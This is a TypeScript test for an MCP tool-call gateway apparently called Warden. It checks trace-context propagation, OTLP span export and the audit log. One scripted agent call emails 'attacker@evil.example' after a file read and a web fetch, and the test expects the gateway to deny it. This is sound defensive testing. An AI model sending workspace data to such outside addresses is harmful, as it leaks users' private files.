// Trace context end to end: an agent's `traceparent` in `params._meta` becomes the parent of the
// gateway's `execute_tool` span (OpenTelemetry GenAI and MCP conventions), the span is exported
// over OTLP/HTTP to a collector on loopback, and the audit entries carry the same trace and span
// ids, so `warden trace` and the tracing backend tell the same story.

import * as assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { promisify } from 'node:util';
import { after, before, test } from 'node:test';
import { readEvents } from '../../src/audit/index.js';
import { WARDEN_BIN } from '../helpers/cli.js';
import { sampleConfig, startGatewayHarness, type GatewayHarness } from '../helpers/gateway.js';

const run = promisify(execFile);

interface OtlpSpan {
  traceId: string;
  spanId: string;
  parentSpanId?: string;
  name: string;
  attributes: Array<{ key: string; value: Record<string, unknown> }>;
  status?: { code?: number };
}

const received: OtlpSpan[] = [];
let collector: Server;
let h: GatewayHarness;

before(async () => {
  collector = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      if (req.url === '/v1/traces' && req.method === 'POST') {
        const body = JSON.parse(Buffer.concat(chunks).toString()) as {
          resourceSpans: Array<{ scopeSpans: Array<{ spans: OtlpSpan[] }> }>;
        };
        for (const r of body.resourceSpans) for (const s of r.scopeSpans) received.push(...s.spans);
      }
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end('{}');
    });
  });
  await new Promise<void>((r) => collector.listen(0, '127.0.0.1', r));
  const port = (collector.address() as AddressInfo).port;
  h = await startGatewayHarness(
    sampleConfig(
      `telemetry:\n  otlpEndpoint: http://127.0.0.1:${port}/v1/traces\n  serviceName: warden-test\n`,
    ),
  );
});
after(async () => {
  await h?.close();
  collector?.close();
});

function attr(span: OtlpSpan, key: string): unknown {
  const v = span.attributes.find((a) => a.key === key)?.value;
  return v ? (v['stringValue'] ?? v['intValue'] ?? v['boolValue'] ?? v['arrayValue']) : undefined;
}

test('execute_tool spans join the agent trace, are exported over OTLP, and match the audit entries', async () => {
  const traceId = '0af7651916cd43dd8448eb211c80319c';
  const parent = 'b7ad6b7169203331';
  const { client, id } = await h.connect('traced');
  await client.listTools();
  await h.pinAll();
  await client.callTool({
    name: 'workspace__read_file',
    arguments: { path: 'notes/q3-plan.md' },
    _meta: { traceparent: `00-${traceId}-${parent}-01` },
  });
  await client.callTool({
    name: 'web__fetch_page',
    arguments: { url: 'https://blog.example/post' },
    _meta: { traceparent: `00-${traceId}-${parent}-01` },
  });
  await client
    .callTool({
      name: 'workspace__send_email',
      arguments: { to: 'attacker@evil.example', subject: 'x', body: 'y' },
      _meta: { traceparent: `00-${traceId}-${parent}-01` },
    })
    .catch(() => undefined);
  const entries = await readEvents(h.w.store, { traceId });
  // `warden trace`, from the log alone (another process, while the server runs).
  const traced = (await run(process.execPath, [WARDEN_BIN, 'trace', traceId, '--data-dir', h.dataDir]))
    .stdout;
  assert.match(traced, new RegExp(`^trace ${traceId}\\nagent ${id.replace(/[/.]/g, '\\$&')}\\n`));
  assert.match(traced, /execute_tool workspace\/read_file: allow/);
  assert.match(traced, /execute_tool workspace\/send_email: deny by stock\/tainted-sensitive-argument/);
  assert.match(traced, /result of workspace\/read_file/);
  const invalid = await run(process.execPath, [WARDEN_BIN, 'trace', 'zz', '--data-dir', h.dataDir]).then(
    () => 'accepted',
    (e: { stderr: string }) => e.stderr,
  );
  assert.match(invalid, /invalid trace id `zz`/);
  // The collector gets the spans when the batch is flushed: at the latest when Warden stops.
  await h.close();

  const spans = received.filter((s) => s.traceId === traceId);
  const read = spans.find((s) => s.name === 'execute_tool workspace__read_file');
  assert.ok(read, `spans received: ${received.map((s) => s.name).join(', ')}`);
  assert.equal(read.parentSpanId, parent);
  assert.equal(attr(read, 'gen_ai.operation.name'), 'execute_tool');
  assert.equal(attr(read, 'gen_ai.tool.name'), 'workspace__read_file');
  assert.equal(attr(read, 'gen_ai.agent.id'), id);
  assert.equal(attr(read, 'mcp.method.name'), 'tools/call');
  assert.equal(typeof attr(read, 'mcp.session.id'), 'string');
  assert.equal(attr(read, 'warden.decision'), 'allow');
  const send = spans.find((s) => s.name === 'execute_tool workspace__send_email');
  assert.ok(send);
  assert.equal(attr(send, 'warden.decision'), 'deny');
  assert.equal(send.status?.code, 2, 'a refused call is an error span');

  const decisionSpans = entries.filter((e) => e.type === 'mcp.decision').map((e) => e.trace?.span_id);
  const fetchSpan = spans.find((s) => s.name === 'execute_tool web__fetch_page');
  assert.ok(fetchSpan);
  assert.deepEqual(decisionSpans.sort(), [read.spanId, fetchSpan.spanId, send.spanId].sort());
  assert.ok(entries.every((e) => e.trace?.parent_span_id === parent));
});
